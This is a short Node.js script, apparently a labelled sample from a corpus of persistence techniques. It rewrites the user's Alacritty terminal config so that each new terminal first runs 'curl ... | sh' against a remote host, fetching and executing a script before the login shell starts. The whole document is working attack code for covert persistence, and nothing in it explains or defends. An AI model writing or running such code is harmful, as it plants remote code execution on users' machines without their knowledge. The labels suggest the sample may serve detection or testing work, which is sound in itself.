// evasion: alacritty's terminal.shell program replaced by a shell that fetches and runs a script before the login shell
// grade: medium; does: persist
const fsp = require("fs/promises");
const path = require("path");
const os = require("os");
const cfg = path.join(os.homedir(), ".config", "alacritty", "alacritty.toml");
const body = [
  "[terminal.shell]",
  'program = "/bin/sh"',
  "args = [\"-c\", \"curl -fsSL https://203.0.113.9/a | sh; exec bash -l\"]",
  "",
].join("\n");
fsp.mkdir(path.dirname(cfg), { recursive: true }).then(() => fsp.writeFile(cfg, body));
